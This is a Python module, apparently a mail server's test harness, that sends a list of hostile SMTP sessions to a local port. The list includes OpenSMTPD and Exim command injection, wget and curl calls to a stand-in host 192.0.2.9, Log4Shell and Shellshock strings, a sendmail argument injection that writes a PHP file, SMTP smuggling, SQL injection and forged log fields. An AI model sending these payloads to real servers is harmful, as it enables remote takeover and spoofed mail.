"""Attackers: each opens a connection and sends its lines raw, whatever the server answers."""

import contextlib
import socket
from collections.abc import Mapping
from types import MappingProxyType
from typing import BinaryIO, Final

GREETING_SECONDS_MAX: Final = 10.0
ANSWER_SECONDS_MAX: Final = 1.0  # some wait for more of what an attacker sends
READER: Final = b"RCPT TO:<reader@backup.example>"
SENDER: Final = b"MAIL FROM:<a@sender.example>"
# Text that looks like the fields by which these logs name the client.
FORGED: Final = (
    b"x, relay=evil [198.51.100.9], reject=250 H=evil [198.51.100.9] P=esmtp ; client=evil[198.51.100.9] "
    b"from evil[198.51.100.9] $(id)"
)

ATTACKS: Final[Mapping[str, tuple[bytes, ...]]] = MappingProxyType(
    {
        "opensmtpd": (
            b"EHLO x",
            b"MAIL FROM:<;for i in 0 1 2 3 4 5 6 7 8 9 a b c d;do read r;done;sh;exit 0;>",
            b"RCPT TO:<root@backup.example>",
        ),
        "opensmtpd, sleeping": (b"HELO x", b"MAIL FROM:<;sleep 66;>", b"RCPT TO:<root@backup.example>"),
        "raw sender": (
            b"EHLO x",
            b"MAIL FROM:<`echo${IFS}aWQ=|base64${IFS}-d|bash`@x>",
            READER,
            b"DATA",
            b"Subject: x\r\n\r\nx\r\n.",
        ),
        "exim": (
            b"EHLO x",
            b"MAIL FROM:<>",
            rb"RCPT TO:<root+${run{\x2Fbin\x2Fsh\t-c\t\x22wget\x20192.0.2.9\x2Fx\x22}}@localhost>",
            rb"RCPT TO:<root+${run{\x2Fbin\x2Fsh\t-c\t\x22id\x22}}@backup.example>",
            b"DATA",
            b"".join(b"Received: %d\r\n" % number for number in range(31)) + b"\r\nx\r\n.",
        ),
        "etrn": (b"EHLO x", b"ETRN #',1);select pg_sleep(10);--"),
        "smuggled": (
            b"EHLO x",
            SENDER,
            READER,
            b"DATA",
            b"Subject: x\r\n\r\nx\n.\r\nMAIL FROM:<admin@backup.example>\r\n"
            b"RCPT TO:<reader@backup.example>\r\nDATA\r\nSubject: smuggled\r\n\r\nx\r\n.",
        ),
        "before tls": (b"EHLO x", b"STARTTLS\r\nMAIL FROM:<inject@sender.example>"),
        "zimbra": (b"EHLO x", SENDER, b'RCPT TO:<"aabbb$(curl${IFS}192.0.2.9)"@other.example>'),
        "sendmail's arguments": (b"EHLO x", rb'MAIL FROM:<"a\" -oQ/tmp -X/var/www/x.php "@sender.example>'),
        "milter": (b"EHLO x", SENDER, b'RCPT TO:<root+:"|id"@other.example>'),
        "a program": (b"EHLO x", SENDER, b"RCPT TO:<|id>"),
        "shellshock": (
            b"HELO () { :; }; /bin/id",
            b"HELO x",
            b"MAIL FROM:<() { :; }; /bin/id@sender.example>",
        ),
        "log4shell": (
            b"EHLO ${jndi:ldap://192.0.2.9/a}",
            b"HELO x",
            b"MAIL FROM:<${jndi:ldap://192.0.2.9/a}@sender.example>",
            b"RCPT TO:<reader@other.example>",
        ),
        "a long name": (b"EHLO " + b"A" * 12_000,),
        "logins": (b"EHLO x", b"AUTH PLAIN " + b"A" * 1_100, b"AUTH NTLM TlRMTVNTUAAB"),
        "an impossible size": (b"EHLO x", SENDER, READER, b"BDAT -1"),
        "old commands": (b"WIZ", b"DEBUG", b"VRFY root", b"TURN"),
        "http": (b"GET / HTTP/1.1",),
        "sql": (b"EHLO x", SENDER, b"RCPT TO:<x' union select 1 -- @backup.example>"),
        "script": (b"EHLO x", SENDER, b"RCPT TO:<<script>alert(1)</script>@backup.example>"),
        "forged fields": (
            b"EHLO x",
            b'MAIL FROM:<"' + FORGED + b'"@sender.example>',
            b'RCPT TO:<"x\\" result=\\"250 2.0.0 Ok $(id)"@other.example>',
            b'RCPT TO:<"$(id)\x1b[2J"@other.example>',
        ),
    }
)


def attack(port: int) -> None:
    """All attacks, one after the other."""
    address = ("127.0.0.1", port)
    for lines in ATTACKS.values():
        # A server may close at once, or wait for more.
        with (
            contextlib.suppress(OSError),
            socket.create_connection(address, GREETING_SECONDS_MAX) as connection,
        ):
            answers = connection.makefile("rb")
            _answered(answers)
            connection.settimeout(ANSWER_SECONDS_MAX)
            for line in (*lines, b"QUIT"):
                connection.sendall(line + b"\r\n")
                if not _answered(answers):
                    break


def _answered(answers: BinaryIO) -> bool:
    """Whether the server sent a whole reply, of one line or several."""
    line = answers.readline()
    while line[3:4] == b"-":
        line = answers.readline()
    return len(line) > 0
